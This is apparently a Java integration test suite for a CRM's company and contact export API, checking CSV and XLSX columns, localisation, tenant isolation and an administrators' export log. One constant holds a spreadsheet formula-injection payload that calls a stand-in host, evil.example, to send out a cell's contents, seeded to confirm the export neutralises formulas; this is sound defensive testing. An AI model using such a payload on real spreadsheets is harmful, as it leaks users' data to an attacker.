package org.nordcrm.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.Arrays;
import java.util.List;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.nordcrm.shared.PhoneNumbers;
import org.nordcrm.support.Api;
import org.nordcrm.support.NordCrmTest;
import org.nordcrm.support.TestTenants;
import org.nordcrm.support.TestTenants.TestTenant;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;

/**
 * The companies list (and the persons' lists and search results) exported through the API as CSV and XLSX, read
 * back with FastCSV and fastexcel-reader: columns, the user's language, formula cells, tenants, the export log.
 */
@NordCrmTest
class ExportApiTest {

	static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klikk her\")";

	@LocalServerPort
	int port;

	@Autowired
	TestTenants tenants;

	TestTenant acme;
	Api user;
	String owner;
	LocalDate today;

	@BeforeEach
	void setUp() {
		acme = tenants.create("Eksport");
		user = new Api(port).login(acme.user().email(), TestTenants.PASSWORD);
		owner = acme.user().id().value().toString();
		today = LocalDate.now(ZoneId.of(acme.user().timeZone()));
		company("""
				{"name": "Ærlige Øl & Åkerbær AS", "nickname": "Ølbryggeriet", "organisationNumber": "923609016",
				 "phone": "+47 22 33 44 55", "email": "post@aerlige.no", "employees": 12, "turnover": 1234567.5,
				 "turnoverCurrency": "NOK", "ownerId": "%s",
				 "visitingAddress": {"street": "Storgata 1", "postcode": "0155", "city": "Tromsø"}}""".formatted(owner));
		company("{\"name\": %s, \"ownerId\": \"%s\", \"email\": \"-2+3@minus.no\"}".formatted(json(HYPERLINK), owner));
		company("{\"name\": \"Uten Eier AS\"}");
	}

	void company(String json) {
		var r = user.post("/api/v1/companies", json);
		assertThat(r.status()).as(r.body()).isEqualTo(201);
	}

	static String json(String s) {
		return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
	}

	HttpResponse<byte[]> download(Api api, String path) {
		try {
			return HttpClient.newHttpClient().send(api.builder(path).GET().build(), HttpResponse.BodyHandlers.ofByteArray());
		}
		catch (IOException e) {
			throw new java.io.UncheckedIOException(e);
		}
		catch (InterruptedException e) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(e);
		}
	}

	static List<CsvRecord> csv(byte[] body, char separator) {
		assertThat(Arrays.copyOf(body, 3)).as("UTF-8 byte order mark").containsExactly(0xEF, 0xBB, 0xBF);
		var text = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
		return CsvReader.builder().fieldSeparator(separator).ofCsvRecord(text).stream().toList();
	}

	static CsvRecord find(List<CsvRecord> rows, int column, String prefix) {
		return rows.stream().filter(r -> r.getField(column).startsWith(prefix)).findFirst().orElseThrow();
	}

	@Test
	void filteredCompanyListAsNorwegianCsv() {
		var r = download(user.language("nb"), "/api/v1/search/export?kind=company&owner=" + owner + "&format=csv");
		assertThat(r.statusCode()).isEqualTo(200);
		assertThat(r.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/csv");
		assertThat(r.headers().firstValue("Content-Disposition").orElseThrow())
			.contains("attachment").contains("companies-" + today + ".csv");
		var rows = csv(r.body(), ';');
		assertThat(rows.getFirst().getFields()).startsWith("Kundenr.", "Navn").contains("Omsetning", "Telefon", "Registrert");
		assertThat(rows).as("header and the two companies of the owner, not the one without").hasSize(3);
		assertThat(rows.stream().map(x -> x.getField(1))).doesNotContain("Uten Eier AS");

		var aerlige = find(rows, 1, "Ærlige");
		assertThat(aerlige.getField(1)).isEqualTo("Ærlige Øl & Åkerbær AS");
		assertThat(aerlige.getField(2)).isEqualTo("Ølbryggeriet");
		assertThat(aerlige.getField(3)).isEqualTo("923 609 016");
		assertThat(aerlige.getField(4)).isEqualTo("Tromsø");
		assertThat(aerlige.getField(5)).as("a phone number stays readable, but is no formula").isEqualTo("'+47 22 33 44 55");
		assertThat(aerlige.getField(9)).isEqualTo(acme.user().name());
		assertThat(aerlige.getField(10)).isEqualTo("12");
		assertThat(aerlige.getField(11)).as("decimal comma, no grouping").isEqualTo("1234567,50");
		assertThat(aerlige.getField(12)).isEqualTo(today.format(DateTimeFormatter.ofPattern("dd.MM.yyyy")));

		var evil = find(rows, 1, "'=");
		assertThat(evil.getField(1)).isEqualTo("'" + HYPERLINK);
		assertThat(evil.getField(6)).isEqualTo("'-2+3@minus.no");
	}

	@Test
	void swedishAndEnglishCsv() {
		var sv = csv(download(user.language("sv"), "/api/v1/search/export?kind=company&owner=" + owner + "&format=csv").body(), ';');
		assertThat(sv.getFirst().getField(1)).isEqualTo("Namn");
		assertThat(find(sv, 1, "Ærlige").getField(12)).isEqualTo(today.toString());
		assertThat(find(sv, 1, "Ærlige").getField(11)).isEqualTo("1234567,50");

		var en = csv(download(user.language("en"), "/api/v1/search/export?kind=company&owner=" + owner + "&format=csv").body(), ',');
		assertThat(en.getFirst().getField(1)).isEqualTo("Name");
		assertThat(find(en, 1, "Ærlige").getField(11)).isEqualTo("1234567.50");
		assertThat(find(en, 1, "Ærlige").getField(12)).isEqualTo(today.format(DateTimeFormatter.ofPattern("dd/MM/yyyy")));
		assertThat(find(en, 1, "'=").getField(1)).as("quoted by CSV rules, neutralised all the same").isEqualTo("'" + HYPERLINK);
	}

	@Test
	void filteredCompanyListAsXlsx() throws IOException {
		var r = download(user.language("nb"), "/api/v1/search/export?kind=company&owner=" + owner + "&format=xlsx");
		assertThat(r.statusCode()).isEqualTo(200);
		assertThat(r.headers().firstValue("Content-Type").orElseThrow()).contains("spreadsheetml");
		assertThat(r.headers().firstValue("Content-Disposition").orElseThrow()).contains("companies-" + today + ".xlsx");
		try (var wb = new ReadableWorkbook(new ByteArrayInputStream(r.body()), new ReadingOptions(true, false))) {
			List<Row> rows;
			try (var stream = wb.getFirstSheet().openStream()) {
				rows = stream.toList();
			}
			assertThat(wb.getFirstSheet().getName()).isEqualTo("Firmaer");
			assertThat(rows).hasSize(3);
			assertThat(rows.getFirst().getCellText(0)).isEqualTo("Kundenr.");
			assertThat(rows.getFirst().getCellText(11)).isEqualTo("Omsetning");
			var aerlige = rows.stream().filter(x -> x.getCellText(1).startsWith("Ærlige")).findFirst().orElseThrow();
			assertThat(aerlige.getCellText(1)).isEqualTo("Ærlige Øl & Åkerbær AS");
			assertThat(aerlige.getCell(0).getType()).isEqualTo(CellType.NUMBER);
			assertThat(aerlige.getCell(5).getType()).isEqualTo(CellType.STRING);
			assertThat(aerlige.getCellText(5)).as("the phone as written, a text cell").isEqualTo("+47 22 33 44 55");
			assertThat(aerlige.getCell(10).asNumber()).isEqualByComparingTo("12");
			assertThat(aerlige.getCell(11).getType()).isEqualTo(CellType.NUMBER);
			assertThat(aerlige.getCell(11).asNumber()).isEqualByComparingTo(new BigDecimal("1234567.5"));
			assertThat(aerlige.getCell(11).getDataFormatString()).as("1 234 567,50 NOK").isEqualTo("#,##0.00\\ \\N\\O\\K");
			assertThat(aerlige.getCell(12).getType()).isEqualTo(CellType.NUMBER);
			assertThat(aerlige.getCell(12).getDataFormatString()).isEqualTo("dd.mm.yyyy");
			assertThat(aerlige.getCell(12).asDate().toLocalDate()).isEqualTo(today);
			var evil = rows.stream().filter(x -> x.getCellText(1).startsWith("=")).findFirst().orElseThrow();
			assertThat(evil.getCell(1).getType()).as("a text cell, never a formula").isEqualTo(CellType.STRING);
			assertThat(evil.getCell(1).getFormula()).isNull();
			assertThat(evil.getCellText(1)).isEqualTo(HYPERLINK);
		}
	}

	@Test
	void anotherTenantsRowsAreNeverExported() {
		var other = tenants.create("Annen");
		var stranger = new Api(port).login(other.user().email(), TestTenants.PASSWORD);
		assertThat(stranger.post("/api/v1/companies", "{\"name\": \"Fremmed Konkurrent AS\"}").status()).isEqualTo(201);

		var mine = new String(download(user, "/api/v1/search/export?kind=company&format=csv").body(), StandardCharsets.UTF_8);
		assertThat(mine).contains("Ærlige", "Uten Eier AS").doesNotContain("Fremmed");
		var theirs = new String(download(stranger, "/api/v1/search/export?kind=company&format=csv").body(), StandardCharsets.UTF_8);
		assertThat(theirs).contains("Fremmed").doesNotContain("Ærlige", "Uten Eier");
		var searched = new String(download(stranger, "/api/v1/search/export?q=%C3%86rlige&format=csv").body(), StandardCharsets.UTF_8);
		assertThat(csv(searched.getBytes(StandardCharsets.UTF_8), ',')).as("only the header").hasSize(1);
	}

	@Test
	void searchResultsAndPersonListsExport() {
		assertThat(user.post("/api/v1/contacts", "{\"firstName\": \"Åse\", \"lastName\": \"Ørnes\", \"privateCustomer\": true, "
				+ "\"mobiles\": [\"+47 912 34 567\"], \"birthDate\": \"1980-02-29\"}").status()).isEqualTo(201);
		assertThat(user.post("/api/v1/contacts", "{\"firstName\": \"Per\", \"lastName\": \"Ørnes\"}").status()).isEqualTo(201);

		var privates = csv(download(user.language("nb"), "/api/v1/search/export?kind=private&format=csv").body(), ';');
		assertThat(privates).hasSize(2);
		assertThat(privates.get(1).getField(0)).isEqualTo("Åse");
		assertThat(privates.get(1).getField(5)).isEqualTo("'" + PhoneNumbers.international("+4791234567"));
		assertThat(privates.get(1).getField(10)).isEqualTo("29.02.1980");
		var contacts = csv(download(user.language("nb"), "/api/v1/search/export?kind=person&format=csv").body(), ';');
		assertThat(contacts.stream().map(x -> x.getField(0)).toList()).containsExactly("Fornavn", "Per");

		var hits = csv(download(user.language("nb"), "/api/v1/search/export?q=%C3%B8rnes&format=csv").body(), ';');
		assertThat(hits.getFirst().getFields()).containsExactly("Type", "Navn", "Detaljer");
		assertThat(hits.stream().skip(1).map(x -> x.getField(1)).toList()).containsExactlyInAnyOrder("Åse Ørnes", "Per Ørnes");
		assertThat(hits.stream().skip(1).map(x -> x.getField(0)).toList()).contains("Privatkunde");
	}

	@Test
	void administratorsSeeWhoExportedWhat() {
		download(user, "/api/v1/search/export?kind=company&owner=" + owner + "&format=xlsx");
		var admin = new Api(port).login(acme.admin().email(), TestTenants.PASSWORD);
		var log = admin.get("/api/v1/exports");
		assertThat(log.status()).as(log.body()).isEqualTo(200);
		var entry = log.json().get("items").get(0);
		assertThat(entry.get("actorName").asString()).isEqualTo(acme.user().email());
		assertThat(entry.get("actorId").asString()).isEqualTo(owner);
		assertThat(entry.get("list").asString()).isEqualTo("companies");
		assertThat(entry.get("criteria").asString()).isEqualTo("kind=company&owner=" + owner);
		assertThat(entry.get("format").asString()).isEqualTo("xlsx");
		assertThat(entry.get("rows").asLong()).isEqualTo(2);
		assertThat(entry.get("complete").asBoolean()).isTrue();
		assertThat(entry.get("channel").asString()).isEqualTo("api");

		assertThat(user.get("/api/v1/exports").status()).as("users do not read the log").isEqualTo(403);
		var other = tenants.create("Logg");
		var otherAdmin = new Api(port).login(other.admin().email(), TestTenants.PASSWORD);
		assertThat(otherAdmin.get("/api/v1/exports").json().get("items").size()).as("another tenant's log is its own").isZero();
	}

	@Test
	void aBadFormatIsAFieldError() {
		var r = user.language("nb").get("/api/v1/search/export?kind=company&format=pdf");
		assertThat(r.status()).isEqualTo(400);
		assertThat(r.contentType()).contains("problem+json");
		assertThat(r.json().get("errors").get(0).get("field").asString()).isEqualTo("format");
		assertThat(r.json().get("errors").get(0).get("message").asString()).contains("csv eller xlsx");
		assertThat(user.get("/api/v1/search/export?kind=company").status()).isEqualTo(400);
	}
}
